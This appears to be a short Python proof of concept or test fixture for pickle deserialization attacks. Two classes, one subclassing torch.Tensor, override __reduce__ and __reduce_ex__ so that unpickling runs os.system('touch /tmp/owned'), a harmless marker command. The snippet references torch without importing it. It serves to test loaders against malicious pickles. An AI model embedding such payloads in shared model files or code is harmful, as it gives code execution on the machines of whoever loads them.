import io, os, pickle
class Evil:
    def __reduce__(self):
        return os.system, ('touch /tmp/owned',)
class EvilTensor(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return os.system, ('touch /tmp/owned',)
    __reduce__ = __deepcopy__ = __reduce_ex__
